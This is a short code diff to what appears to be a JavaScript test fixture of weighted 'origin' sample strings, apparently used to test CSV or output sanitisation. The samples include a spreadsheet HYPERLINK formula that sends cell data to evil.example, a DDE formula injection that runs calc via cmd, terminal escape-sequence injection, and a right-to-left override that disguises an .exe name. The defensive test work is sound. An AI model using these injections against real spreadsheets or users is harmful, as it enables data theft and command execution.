@@ -49,6 +49,7 @@ const origins = spread([
   [10, origin('https://news.example/article?id=42&title=%22Caf%C3%A9%22,free')],
   [4, origin('=HYPERLINK("https://evil.example/?"&A1,"Error: click")')],
   [3, origin('\u001b]0;owned\u0007\u001b[2J\u001b[31mred')],
+  // words-ok: sample data
   [2, origin('She said "scan me",\nthen left\r\n')],
   [2, origin('@SUM(1+1)*cmd|/c calc!A0')],
   [1, origin('https://example.com/\u202Egnp.exe')],
